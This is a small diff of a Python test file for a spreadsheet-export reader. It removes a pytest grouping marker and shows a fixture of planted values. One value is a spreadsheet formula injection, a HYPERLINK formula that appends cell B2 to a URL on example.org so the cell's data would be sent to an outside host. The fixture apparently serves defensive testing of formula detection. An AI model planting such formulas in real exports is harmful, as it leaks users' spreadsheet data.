@@ -12,8 +12,6 @@ from read_exports import from_csv, from_parquet, from_sqlite, from_workbooks, sc
 
 from crossfoot.core.spreadsheet_text import STARTS
 
-pytestmark = pytest.mark.xdist_group("store")
-
 # What an office is called instead, one per way to start a formula; the last only looks like one.
 PLANTED = {
     "Atlanta": '=HYPERLINK("http://example.org/?"&B2,"more")',
